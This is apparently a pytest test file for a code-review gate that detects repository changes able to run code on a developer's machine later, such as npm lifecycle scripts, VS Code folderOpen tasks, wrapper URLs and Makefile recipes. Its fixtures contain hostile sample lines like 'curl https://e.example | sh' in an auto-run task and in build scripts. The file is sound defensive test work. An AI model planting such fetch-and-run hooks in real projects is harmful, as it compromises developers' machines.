"""The runs-later reading names, from the changed files' bytes alone, each change that runs
code on a developer's machine later, outside the sandbox; it reports nothing for the
ordinary edits next to them (a dependency, a test script, a target the plan never runs)."""

from __future__ import annotations

from typing import get_args

import pytest

from gatekeeper.gates.result.runs_later import KINDS, plan_targets, runs_later
from gatekeeper.gates.result.versions import FileVersions
from policy.model import RunsLaterKind

Hit = tuple[str, str, str, bool]  # path, kind, what, automatic


def fv(path: str, base: str | None, candidate: str | None) -> FileVersions:
    return FileVersions(
        path,
        None if base is None else base.encode(),
        None if candidate is None else candidate.encode(),
    )


def found(
    files: list[FileVersions],
    plan: tuple[tuple[str, str], ...] = (),
    globs: tuple[str, ...] = (),
) -> list[Hit]:
    return [
        (r.path, r.kind, r.what, r.automatic)
        for r in runs_later(files, plan_targets=plan, extra_globs=globs)
    ]


PKG = '{"name": "a", "scripts": {"test": "pytest", "build": "tsc"}, "dependencies": {}}'
WORKSPACE = '{"folders": [{"path": "."}]}'
FOLDER_OPEN = """{
  // opened by VS Code
  "folders": [{"path": "."}],
  "tasks": {
    "version": "2.0.0",
    "tasks": [
      {"label": "x", "command": "curl https://e.example | sh",
       "runOptions": {"runOn": "folderOpen"}, /* hidden */},
    ],
  },
}"""
GW = "gradle/wrapper/gradle-wrapper.properties"
WS = "dev.code-workspace"
GRADLE = (
    "distributionBase=GRADLE_USER_HOME\n"
    "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\n"
    "distributionSha256Sum=544c35d6bd849ae8a5ed0bcea39ba677dc40f49df7d1835561582da2009b961d\n"
)
MAKEFILE = """\
.PHONY: all test lint
PY := python3
OUT = gen

all: test

test: build
\t$(PY) -m pytest

build: $(OUT)/version.txt
\techo build

$(OUT)/%.txt: %.in
\tcp $< $@

lint:
\truff check .
"""
JUSTFILE = """\
set shell := ["bash", "-c"]
alias t := test

default: lint

# run the tests
test: build
    pytest

build:
    echo build

lint:
    ruff check .
"""

NAMED = [
    pytest.param(
        [fv("package.json", PKG, PKG.replace('"build"', '"postinstall": "node x.js", "build"'))],
        (),
        [("package.json", "npm-lifecycle", "postinstall script added", True)],
        id="npm-postinstall-added",
    ),
    pytest.param(
        [
            fv(
                "web/package.json",
                '{"scripts": {"prepare": "husky"}}',
                '{"scripts": {"prepare": "husky && node e.js"}}',
            )
        ],
        (),
        [("web/package.json", "npm-lifecycle", "prepare script changed", True)],
        id="npm-prepare-changed-at-depth",
    ),
    pytest.param(
        [fv("package.json", PKG, '{"scripts": {"postinstall": "x"},}')],
        (),
        [("package.json", "npm-lifecycle", "package.json could not be parsed", True)],
        id="npm-package-json-unparseable",
    ),
    pytest.param(
        [FileVersions("package.json", PKG.encode(), None, candidate_oversize=True)],
        (),
        [("package.json", "npm-lifecycle", "package.json could not be parsed", True)],
        id="npm-package-json-oversize",
    ),
    pytest.param(
        [fv("native/binding.gyp", None, "{'targets': []}")],
        (),
        [("native/binding.gyp", "npm-lifecycle", "binding.gyp added", True)],
        id="npm-binding-gyp-added",
    ),
    pytest.param(
        [
            fv(
                ".npmrc",
                "registry=https://registry.npmjs.org/\n",
                "; mirror\nregistry=https://npm.example/\nscript-shell = ./sh.js\n"
                "ignore-scripts=false\n",
            )
        ],
        (),
        [
            (".npmrc", "npmrc", "ignore-scripts set to false", True),
            (".npmrc", "npmrc", "registry changed", False),
            (".npmrc", "npmrc", "script-shell set", True),
        ],
        id="npmrc-script-shell-ignore-scripts-registry",
    ),
    pytest.param(
        [fv(".npmrc", "ignore-scripts=true\n", None)],
        (),
        [(".npmrc", "npmrc", "ignore-scripts unset", True)],
        id="npmrc-deleted-that-disabled-scripts",
    ),
    pytest.param(
        [
            fv(
                ".yarnrc.yml",
                "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.cjs\n",
                "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.2.cjs\n"
                "plugins:\n  - path: .yarn/plugins/p.cjs\n",
            )
        ],
        (),
        [
            (".yarnrc.yml", "yarnrc", "plugins set", True),
            (".yarnrc.yml", "yarnrc", "yarnPath changed", True),
        ],
        id="yarnrc-yml-yarn-path-and-plugins",
    ),
    pytest.param(
        [fv(".yarnrc.yml", "enableScripts: false\n", "enableScripts: 'true'\n")],
        (),
        [(".yarnrc.yml", "yarnrc", "enableScripts set to true", True)],
        id="yarnrc-yml-scripts-enabled",
    ),
    pytest.param(
        [fv(".yarnrc.yml", "nodeLinker: pnp\n", "base: &b ./x.cjs\nyarnPath: *b\n")],
        (),
        [(".yarnrc.yml", "yarnrc", ".yarnrc.yml could not be parsed", True)],
        id="yarnrc-yml-alias-unreadable",
    ),
    pytest.param(
        [
            fv(".yarnrc", "# v1\n", '# v1\nyarn-path "./tools/yarn.js"\n'),
            fv(".yarn/releases/yarn-4.2.cjs", "a", "b"),
        ],
        (),
        [
            (".yarn/releases/yarn-4.2.cjs", "yarnrc", "yarn-4.2.cjs changed", True),
            (".yarnrc", "yarnrc", "yarn-path set", True),
        ],
        id="yarnrc-v1-and-release",
    ),
    pytest.param(
        [fv(WS, WORKSPACE, FOLDER_OPEN)],
        (),
        [(WS, "workspace-tasks", "folderOpen task added or changed", True)],
        id="workspace-folder-open-task",
    ),
    pytest.param(
        [
            fv(
                WS,
                WORKSPACE,
                '{"folders": [], "tasks": {"tasks": [{"label": "t", "command": "make"}]},'
                ' "settings": {"editor.tabSize": 2,'
                ' "terminal.integrated.env.linux": {"A": "1"}}}',
            )
        ],
        (),
        [
            (WS, "workspace-tasks", "setting terminal.integrated.env.linux.A changed", False),
            (WS, "workspace-tasks", "tasks changed", False),
        ],
        id="workspace-task-and-terminal-setting",
    ),
    pytest.param(
        [fv(WS, WORKSPACE, '{"tasks": /* open')],
        (),
        [(WS, "workspace-tasks", "dev.code-workspace could not be parsed", True)],
        id="workspace-unparseable",
    ),
    pytest.param(
        [fv(".tool-versions", "nodejs 20.11.0\n", "nodejs 22.1.0\n")],
        (),
        [(".tool-versions", "tool-versions", ".tool-versions changed", False)],
        id="tool-versions-changed",
    ),
    pytest.param(
        [
            fv(
                "mise.toml",
                '[tools]\nnode = "22"\n',
                '[tools]\nnode = "22"\n[hooks]\nenter = "./e.sh"\n[tasks.build]\nrun = "make"\n'
                '[env]\n_.source = "./env.sh"\nV = "{{ exec(command=\'id\') }}"\n',
            )
        ],
        (),
        [
            ("mise.toml", "tool-versions", "env._.source added", True),
            ("mise.toml", "tool-versions", "exec() template added", True),
            ("mise.toml", "tool-versions", "hook enter added", True),
            ("mise.toml", "tool-versions", "task build added", False),
        ],
        id="mise-hooks-tasks-env-exec",
    ),
    pytest.param(
        [
            fv(
                GW,
                GRADLE,
                GRADLE.replace("services.gradle.org", "g.example").split("distributionSha")[0],
            )
        ],
        (),
        [
            (GW, "wrapper-url", "distributionSha256Sum removed", True),
            (GW, "wrapper-url", "distributionUrl changed", True),
        ],
        id="gradle-distribution-url",
    ),
    pytest.param(
        [
            fv("mvnw", "#!/bin/sh\n", "#!/bin/sh\ncurl e | sh\n"),
            fv(".mvn/wrapper/maven-wrapper.jar", None, "PK"),
        ],
        (),
        [
            (".mvn/wrapper/maven-wrapper.jar", "wrapper-url", "maven-wrapper.jar added", True),
            ("mvnw", "wrapper-url", "mvnw changed", True),
        ],
        id="maven-wrapper-script-and-jar",
    ),
    pytest.param(
        [
            fv(
                "setup.py",
                "from setuptools import setup\nsetup()\n",
                "import os\nos.system('id')\nfrom setuptools import setup\nsetup()\n",
            )
        ],
        (),
        [("setup.py", "python-build", "setup.py changed", False)],
        id="python-setup-py",
    ),
    pytest.param(
        [
            fv(
                "pyproject.toml",
                '[build-system]\nrequires = ["setuptools"]\n',
                '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend:api"\n'
                'backend-path = ["_build"]\n',
            ),
            fv("_build/backend.py", "a = 1\n", "a = 2\n"),
            fv("src/app.py", "a = 1\n", "a = 2\n"),
        ],
        (),
        [
            ("_build/backend.py", "python-build", "build backend changed", False),
            ("pyproject.toml", "python-build", "build-system backend-path changed", False),
            ("pyproject.toml", "python-build", "build-system build-backend changed", False),
        ],
        id="python-build-system-and-in-tree-backend",
    ),
    pytest.param(
        [fv("Makefile", MAKEFILE, MAKEFILE.replace("cp $< $@", "curl e | sh"))],
        (("Makefile", "test"),),
        [("Makefile", "make-target", "target gen/%.txt's recipe changed", False)],
        id="make-planned-target-reaches-pattern-rule",
    ),
    pytest.param(
        [fv("Makefile", MAKEFILE, MAKEFILE.replace("OUT = gen", "OUT = gen\ninclude x.mk"))],
        (("Makefile", ""),),
        [("Makefile", "make-target", "include added", False)],
        id="make-include-added",
    ),
    pytest.param(
        [fv("Makefile", MAKEFILE, MAKEFILE.replace("python3", "./py")), fv("rules.mk", "a", "b")],
        (("Makefile", "test"),),
        [
            ("Makefile", "make-target", "top-level line changed", False),
            ("rules.mk", "make-target", "included file changed", False),
        ],
        id="make-variable-and-fragment",
    ),
    pytest.param(
        [fv("justfile", JUSTFILE, JUSTFILE.replace("echo build", "curl e | sh"))],
        (("justfile", "t"),),
        [("justfile", "make-target", "target build's recipe changed", False)],
        id="just-alias-reaches-dependency",
    ),
    pytest.param(
        [fv("tools/hook.sh", "a", "b"), fv("src/a.py", "a", "b")],
        (),
        [("tools/hook.sh", "policy-listed", "listed by policy pattern tools/*.sh", True)],
        id="policy-listed-glob",
    ),
]

LEGITIMATE = [
    pytest.param(
        [
            fv(
                "package.json",
                PKG,
                PKG.replace('"pytest"', '"pytest -q"')
                .replace('"tsc"', '"tsc -b"')
                .replace('"dependencies": {}', '"dependencies": {"left-pad": "1.3.0"}'),
            )
        ],
        (),
        id="npm-dependency-and-test-build-scripts",
    ),
    pytest.param(
        [
            fv("package.json", '{"scripts": {"postinstall": "x"}}', '{"scripts": {}}'),
            fv("old/package.json", '{"scripts": {"postinstall": "x"}}', None),
        ],
        (),
        id="npm-postinstall-removed-and-deleted",
    ),
    pytest.param(
        [fv(".npmrc", "save-exact=true\n", "save-exact=true\nignore-scripts=true\n")],
        (),
        id="npmrc-scripts-disabled",
    ),
    pytest.param(
        [fv("Makefile", MAKEFILE, MAKEFILE.replace("ruff check .", "ruff check --fix ."))],
        (("Makefile", "test"),),
        id="make-target-the-plan-does-not-run",
    ),
    pytest.param(
        [fv("Makefile", MAKEFILE, MAKEFILE.replace("echo build", "curl e | sh"))],
        (),
        id="make-with-no-plan",
    ),
    pytest.param(
        [fv("justfile", JUSTFILE, JUSTFILE.replace("ruff check .", "ruff format ."))],
        (("justfile", "test"),),
        id="just-recipe-the-plan-does-not-run",
    ),
    pytest.param(
        [
            fv(
                "setup.cfg",
                "[metadata]\nname = a\nversion = 1.0\n",
                "[metadata]\nname = a\nversion = 1.1\n",
            ),
            fv(
                "pyproject.toml",
                '[build-system]\nrequires = ["hatchling"]\n[project]\nname = "a"\n',
                '[build-system]\nrequires = ["hatchling"]\n[project]\nname = "b"\n',
            ),
        ],
        (),
        id="python-metadata",
    ),
    pytest.param(
        [fv("mise.toml", '[tools]\nnode = "20"\n', '[tools]\nnode = "22"\n')],
        (),
        id="mise-tool-version",
    ),
    pytest.param(
        [fv(GW, GRADLE.split("distributionSha")[0], GRADLE)],
        (),
        id="gradle-checksum-added",
    ),
    pytest.param(
        [
            fv(
                WS,
                WORKSPACE,
                '{"folders": [{"path": "."}, {"path": "docs"}], "settings": {"editor.tabSize": 4}}',
            )
        ],
        (),
        id="workspace-folders-and-editor-setting",
    ),
    pytest.param(
        [
            fv("setup.py", "x", "x"),
            fv(
                "package.json",
                '{"scripts": {"postinstall": "x"}}',
                '{"scripts": {"postinstall": "x"}}',
            ),
        ],
        (),
        id="unchanged-context-files",
    ),
]


@pytest.mark.parametrize(("files", "plan", "expected"), NAMED)
def test_each_class_names_the_change_that_runs_later(
    files: list[FileVersions], plan: tuple[tuple[str, str], ...], expected: list[Hit]
) -> None:
    assert found(files, plan, globs=("tools/*.sh",)) == expected


@pytest.mark.parametrize(("files", "plan"), LEGITIMATE)
def test_ordinary_changes_report_nothing(
    files: list[FileVersions], plan: tuple[tuple[str, str], ...]
) -> None:
    assert found(files, plan) == []


def test_a_registry_redirect_is_named_but_not_automatic() -> None:
    # A lockfile's integrity still pins what an install fetches: named for the reviewer,
    # not blocked.
    files = [fv("app/.npmrc", None, "@corp:registry=https://npm.example/\n")]
    assert found(files) == [("app/.npmrc", "npmrc", "@corp:registry set", False)]


def test_a_planned_makefile_under_another_default_name_is_read() -> None:
    files = [fv("sub/GNUmakefile", MAKEFILE, MAKEFILE.replace("\t$(PY) -m pytest", "\tsh e"))]
    assert found(files, plan=plan_targets([["make", "-C", "sub", "test"]])) == [
        ("sub/GNUmakefile", "make-target", "target test's recipe changed", False)
    ]


def test_an_unreadable_make_prerequisite_makes_every_rule_count() -> None:
    opaque = MAKEFILE.replace("build: $(OUT)/version.txt", "build: $(wildcard src/*.c)")
    files = [fv("Makefile", opaque, opaque.replace("ruff check .", "sh e"))]
    assert found(files, plan=(("Makefile", "test"),)) == [
        ("Makefile", "make-target", "target lint's recipe changed", False)
    ]


def test_entries_are_sorted_and_one_per_path_kind_and_what() -> None:
    files = [
        fv("z/.npmrc", None, "git=./g\ngit=./h\n"),
        fv("a/setup.py", None, "x"),
        fv("a/setup.py", None, "y"),
    ]
    assert found(files, globs=("*.py", "a/*")) == [
        ("a/setup.py", "policy-listed", "listed by policy pattern *.py", True),
        ("a/setup.py", "python-build", "setup.py added", False),
        ("z/.npmrc", "npmrc", "git set", True),
    ]


def test_what_is_one_short_line_even_for_hostile_names() -> None:
    key = "distribution\\nUrl" + "x" * 300
    [hit] = found([fv("gradle-wrapper.properties", None, f"{key}=https://e/\n")])
    assert "\n" not in hit[2] and len(hit[2]) == 120


def test_kinds_are_the_policy_kinds_and_policy_listed() -> None:
    assert set(KINDS) == {*get_args(RunsLaterKind), "policy-listed"}


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["make", "test"], [("Makefile", "test")]),
        (["make"], [("Makefile", "")]),
        (
            ["/usr/bin/gmake", "-j", "4", "lint", "test", "V=1"],
            [("Makefile", "lint"), ("Makefile", "test")],
        ),
        (["make", "-C", "backend", "-f", "build.mk", "check"], [("backend/build.mk", "check")]),
        (["make", "--directory=a", "--file", "x.mk", "--jobs", "2"], [("a/x.mk", "")]),
        (["make", "-sCsub", "-k", "--", "all"], [("sub/Makefile", "all")]),
        (["make", "-C", "../elsewhere", "test"], []),
        (["env", "CI=1", "make", "test"], [("Makefile", "test")]),
        (["just", "test"], [("justfile", "test")]),
        (["just"], [("justfile", "")]),
        (
            ["just", "--justfile", "ci/justfile", "lint", "fmt"],
            [("ci/justfile", "lint"), ("ci/justfile", "fmt")],
        ),
        (["just", "-f", "j.just", "--set", "v", "1", "test"], [("j.just", "test")]),
        (["just", "docs/build"], [("docs/justfile", "build")]),
        (["just", "--list"], []),
        (["just", "-f", "/etc/justfile", "x"], []),
        (["pytest", "-q"], []),
    ],
)
def test_plan_targets_reads_make_and_just_argvs(
    argv: list[str], expected: list[tuple[str, str]]
) -> None:
    assert plan_targets([argv]) == tuple(expected)


def test_plan_targets_keeps_each_pair_once_in_order() -> None:
    cmds = [["make", "test"], ["just", "lint"], ["make", "test", "lint"]]
    assert plan_targets(cmds) == (("Makefile", "test"), ("justfile", "lint"), ("Makefile", "lint"))
